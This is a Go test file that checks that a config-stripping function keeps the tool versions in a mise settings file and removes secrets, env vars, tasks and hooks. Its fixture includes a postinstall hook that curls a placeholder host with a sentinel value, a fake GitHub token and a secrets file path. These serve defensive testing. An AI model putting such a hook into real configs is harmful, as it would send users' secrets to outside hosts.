package settings

import (
	"slices"
	"strings"
	"testing"
)

// Which versions run is said; variables, tasks and hooks are not.
func TestMise(t *testing.T) {
	var tool Tool
	for _, t := range Tools() {
		if t.Name == "mise" {
			tool = t
		}
	}
	c, err := Strip(tool, []byte(`# a comment with SENTINEL
[tools]
node = "22" # linked
python = ["3.12", "3.11"]
"npm:prettier" = "latest"
go = { version = "1.26", os = ["linux"], postinstall = "curl https://x/?t=SENTINEL" }
evil = "ghp_0123456789abcdefghijABCDEFGHIJ012345"

[settings]
experimental = true
github_token = "SENTINEL"

[env]
TOKEN = "SENTINEL"
_.file = "~/.secrets"

[tasks.x]
run = "deploy SENTINEL"

[hooks]
enter = "echo SENTINEL"
`), Inside{})
	if err != nil {
		t.Fatal(err)
	}
	text := string(c.Data)
	for _, want := range []string{"node", "22", "3.12", "3.11", "npm:prettier", "latest", "1.26", "experimental"} {
		if !strings.Contains(text, want) {
			t.Errorf("%q is not in the copy:\n%s", want, text)
		}
	}
	for _, secret := range []string{"SENTINEL", "ghp_", ".secrets", "deploy", "postinstall"} {
		if strings.Contains(text, secret) {
			t.Errorf("%q is in the copy:\n%s", secret, text)
		}
	}
	if !slices.Contains(c.Left, "env.TOKEN") && !slices.Contains(c.Left, "env") {
		t.Errorf("left out: %q", c.Left)
	}
}
